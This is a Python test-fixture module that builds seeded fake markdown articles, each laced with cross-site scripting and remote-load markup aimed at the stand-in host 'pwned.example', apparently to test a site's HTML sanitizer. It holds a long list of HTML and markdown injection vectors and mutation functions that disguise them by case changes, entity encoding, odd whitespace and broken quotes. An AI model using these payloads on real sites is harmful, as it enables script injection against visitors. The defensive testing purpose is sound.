"""Made-up articles with markup that means to run, load, embed or lead somewhere: each by its number, always the same.

Whatever gets through would ask `pwned.example` for something, or set `window.pwned`.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Sequence
from typing import Final

HOST: Final = "pwned.example"
RUNS: Final = "window.pwned=1"

ELEMENTS: Final = (
    "<script>{run}</script>",
    "<script src='{load}'></script>",
    "<script/src={load}>",
    "<SCRIPT type=module>{run}",
    "<script>{run}//",
    "<img src=x onerror='{run}'>",
    "<img/src=x/onerror={run}>",
    "<img src='{load}'>",
    "<img srcset='{load} 1x, a.png 2x'>",
    "<picture><source srcset={load}><img src=a.png></picture>",
    "<a href='javascript:{run}'>go</a>",
    "<a href='vbscript:{run}'>go</a>",
    "<a href='data:text/html,<script>{run}</script>'>go</a>",
    "<a href='blob:{load}'>go</a>",
    "<a ping='{load}' href='/'>go</a>",
    "<a href='/' target=_blank rel=opener>go</a>",
    "<meta http-equiv=refresh content='0;url={load}'>",
    "<meta http-equiv='Set-Cookie' content='a=b'>",
    "<base href='{load}'>",
    "<form action='{load}'><input name=a><button>go</button></form>",
    "<form><button formaction='javascript:{run}'>go</button></form>",
    "<input type=image src='{load}'>",
    "<isindex action='{load}'>",
    "<iframe src='{load}'></iframe>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<frameset><frame src='{load}'></frameset>",
    "<object data='{load}'></object>",
    "<embed src='{load}'>",
    "<applet code='{load}'></applet>",
    "<portal src='{load}'></portal>",
    "<fencedframe></fencedframe>",
    "<svg onload='{run}'></svg>",
    "<svg><script>{run}</script></svg>",
    "<svg><script href='{load}'/></svg>",
    "<svg><a xlink:href='javascript:{run}'><text y=9>go</text></a></svg>",
    "<svg><image href='{load}'/></svg>",
    "<svg><use href='{load}#a'/></svg>",
    "<svg><foreignObject><iframe src='{load}'></iframe></foreignObject></svg>",
    "<svg><animate attributeName=href values='javascript:{run}'/></svg>",
    "<svg><set attributeName=onmouseover to='{run}'/></svg>",
    "<math><maction xlink:href='javascript:{run}'>go</maction></math>",
    "<math href='javascript:{run}'>go</math>",
    "<style>@import '{load}';</style>",
    "<style>body {{ background: url({load}) }}</style>",
    "<p style='background: url({load})'>text</p>",
    "<table background='{load}'><tr><td>a</td></tr></table>",
    "<link rel=stylesheet href='{load}'>",
    "<link rel=preconnect href='{load}'>",
    "<link rel=dns-prefetch href='//{host}'>",
    "<link rel=import href='{load}'>",
    "<video src='{load}' autoplay></video>",
    "<video poster='{load}'></video>",
    "<audio src='{load}' autoplay></audio>",
    "<track src='{load}'>",
    "<details open ontoggle='{run}'>a</details>",
    "<p onmouseover='{run}'>a</p>",
    "<p tabindex=0 autofocus onfocus='{run}'>a</p>",
    "<div><template shadowrootmode=open><img src='{load}'></template></div>",
    "<template><img src='{load}'></template>",
    "<noscript><p title='</noscript><img src={load} onerror={run}>'>",
    "<xmp><p title='</xmp><img src={load} onerror={run}>'>",
    "<textarea><p title='</textarea><img src={load} onerror={run}>'></textarea>",
    "<title></title><img src={load}>",
    "<!--><img src={load} onerror={run}>-->",
    "<!-- --!><img src={load} onerror={run}> -->",
    "<!---><img src={load}>-->",
    "<!-- a\n\nb <!-- --> <img src={load}> -->",
    "<?php <img src={load}> ?>",
    "<![CDATA[ <img src={load}> ]]>",
    "<!doctype html><img src={load}>",
    "<a title='<img src={load} onerror={run}>' href='/'>a</a>",
    "<p title=\"a\"onclick=\"{run}\">a</p>",
    "<p title='a>b' onclick='{run}'>a</p>",
    "<script>{run}</scr",
    "<img src={load}",
    "<keygen autofocus onfocus={run}>",
    "<button is=x-y onclick={run}>a</button>",
    "<x-custom onpointerenter='{run}'>a</x-custom>",
    "<marquee onstart='{run}'>a</marquee>",
    "<body onload='{run}'>",
    "<html manifest='{load}'>",
    "<dialog open onclose={run}>a</dialog>",
    "<select><iframe src={load}></select>",
    "<link rel=modulepreload href={load}>",
    "<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"{load}\"]}}]}}</script>",
)  # fmt: skip

MARKDOWN: Final = (
    "[go](javascript:{run})",
    "[go](<javascript:{run}>)",
    "[go]( javascript:{run} 'title')",
    "[go][ref]\n\n[ref]: javascript:{run}",
    "[ref]\n\n[ref]: <vbscript:{run}> 'a'",
    "<javascript:{run}>",
    "[go](data:text/html;base64,PHNjcmlwdD4=)",
    "![alt]({load})",
    "![alt](//{host}/a.png)",
    "![alt](\\\\{host}/a.png)",
    "![alt][pic]\n\n[pic]: {load}",
    "![\"onerror={run} a](a.png)",
    "![alt](a.png \"a' onerror='{run}\")",
    "[go](/ \"a' onclick='{run}\")",
    "[![a]({load})](/)",
    "text{{: onclick=\"{run}\" }}",
    "*text*{{: onclick='{run}' }}",
    "*text*{{ style=\"background: url({load})\" }}",
    "[go](/){{: href=\"javascript:{run}\" }}",
    "[go](/){{ ping={load} target=_blank }}",
    "![a](a.png){{: src={load} }}",
    "![a](a.png){{: srcset=\"{load} 2x\" }}",
    "![a](a.png){{: #x .y onload={run} }}",
    "`<b>` <img src={load}> `",
    "``a` <script>{run}</script> ``b",
    "\\<img src={load} onerror={run}>",
    "\\`<script>{run}</script>\\`",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "~~~\n<script>{run}</script>\n~~\n\n<img src={load}>",
    "```\na\n```` \n<img src={load} onerror={run}>\n",
    "    <script>{run}</script>",
    "<div markdown=1>\n<script>{run}</script>\n</div>",
    "<div markdown=\"block\"><p onclick={run}>a</p></div>",
    "<p markdown=1 onclick={run}>*a*</p>",
    "<b\nonclick={run}>a</b>",
    "\x02wzxhzdk:0\x03 <i>a</i>",
    "\x02klzzwxh:0001\x03<img src={load}>",
    "| a | b |\n|---|---|\n| <img src={load}> | `|` |",
    "| a | b |\n|---|---|\n| [go](javascript:{run}) | *x*{{: onclick={run} }} |",
    "> <script>\n> {run}\n> </script>",
    "1. a\n\n    <iframe src={load}></iframe>",
    "*[HTML]: <script>{run}</script>\n\nHTML",
    "a[^1]\n\n[^1]: <img src={load}>",
    "<https://a.example/\"onmouseover={run}>",
    "<a@b.example\"onmouseover={run}>",
    "[a](https://a.example/\"onmouseover={run}\")",
)  # fmt: skip

PLACES: Final[tuple[Callable[[str], str], ...]] = (
    lambda p: f"Some words.\n\n{p}\n\nMore words.",
    lambda p: f"Some words {p} and more.",
    lambda p: f"## A heading {p}\n\nText.",
    lambda p: f"- one\n- {p}\n- three",
    lambda p: f"> said {p}",
    lambda p: f"| a | b |\n|---|---|\n| {p} | c |",
    lambda p: f"/// takeaways\n- A claim {p}.\n///",
    lambda p: f"/// faq\n//// question | Why {p}?\nBecause.\n////\n///",
    lambda p: f"/// faq\n//// question | Why?\nBecause {p}.\n////\n///",
    lambda p: f"/// evidence\n    strength: one study\n\nA claim {p}.\n///",
    lambda p: f"/// call-to-action | Go {p}\n    to: quiz/attachment.md\n\nText {p}.\n///",
    lambda p: f"/// profile-note\n//// reader | attachment.preoccupied\nFor you {p}.\n////\n///",
    lambda p: f"<div>\n\n{p}\n\n</div>",
    lambda p: f"<p>{p}</p>",
    lambda p: f"<section markdown='1'>\n{p}\n</section>",
    lambda p: f"<!-- a -->{p}<!-- b -->",
    lambda p: f"a `code` {p} `code` b",
    lambda p: f"```html\na\n```\n{p}\n```\nb\n```",
    lambda p: f"**{p}**",
    lambda p: f"[{p}](../index.md)",
    lambda p: f"![{p}](../images/a.svg)",
    lambda p: f"[a](../index.md \"{p}\")",
    lambda p: f"Table: a caption {p}\n\n| a |\n|---|\n| b |",
    lambda p: f"![a](../images/a.svg)\n*A caption {p}*",
)  # fmt: skip


def _cases(text: str, chance: random.Random) -> str:
    return "".join(c.upper() if chance.random() < 0.4 else c for c in text)


def _entities(text: str, chance: random.Random) -> str:
    forms: Sequence[str] = ("&#{0};", "&#x{0:x};", "&#{0:07d}", "&#X{0:X};")
    position = chance.randrange(len(text))
    return text[:position] + chance.choice(forms).format(ord(text[position])) + text[position + 1 :]


def _blanks(text: str, chance: random.Random) -> str:
    position = chance.randrange(len(text) + 1)
    return (
        text[:position]
        + chance.choice(("\t", "\n", " ", "\x00", "\x0c", "\r\n", "\u00a0", "\x01"))
        + text[position:]
    )


def _slashes(text: str, chance: random.Random) -> str:
    return text.replace(" ", chance.choice(("/", "\n", "\t", "  ", "/ /")), 1)


def _cut(text: str, chance: random.Random) -> str:
    return text[: chance.randrange(len(text) // 2, len(text))]


def _quotes(text: str, chance: random.Random) -> str:
    return text.replace("'", chance.choice(('"', "`", "", "&quot;", "\\'")))


def _named(text: str, chance: random.Random) -> str:
    return text.replace(":", chance.choice(("&colon;", "&#58;", "\\:", ":&Tab;", "&NewLine;:")), 1)


def _doubled(text: str, chance: random.Random) -> str:
    position = chance.randrange(len(text))
    return text[:position] + text + text[position:]


def _escaped(text: str, chance: random.Random) -> str:
    return text.replace(chance.choice("<>([{"), chance.choice(("\\<", "<<", "< ", "\\(", "{{")), 1)


_CHANGES: Final = (_cases, _entities, _blanks, _slashes, _cut, _quotes, _named, _doubled, _escaped)


def payload(chance: random.Random) -> str:
    """Return one piece of markup, changed up to three times; a third of them are as they should be."""
    load = chance.choice(("https://{0}/x", "//{0}/x", "HTTP://{0}/x", "https:\\\\{0}/x", "/\\{0}/x")).format(
        HOST
    )
    text = chance.choice(ELEMENTS + MARKDOWN).format(run=RUNS, load=load, host=HOST)
    for _ in range(chance.choice((0, 0, 1, 1, 2, 3))):
        text = chance.choice(_CHANGES)(text, chance) or text
    return text


def hostile_article(number: int) -> str:
    """Return the text of one article, sound but for what it is made to hold, which may be in the front matter."""
    chance = random.Random(number)
    body = chance.choice(PLACES)(payload(chance))
    if chance.random() < 0.2:
        body += "\n\n" + chance.choice(PLACES)(payload(chance))
    title, description = (
        f"Article {number}",
        "A description that is long enough to pass the rule of fifty characters.",
    )
    if chance.random() < 1 / 12:
        quoted = payload(chance).replace("\\", "\\\\").replace('"', '\\"').replace("\n", " ")
        quoted = "".join(c for c in quoted if c.isprintable())[:60]
        title = f"{title} {quoted}"
        description = f"{description} {quoted}"
    return (
        f'---\ntitle: "{title}"\ndescription: "{description}"\ndate: 2026-11-01\nsection: relationships\n'
        f"topic: awareness\ntags: [attachment]\nauthors: [ann]\n---\n\nA first paragraph.\n\n{body}\n"
    )
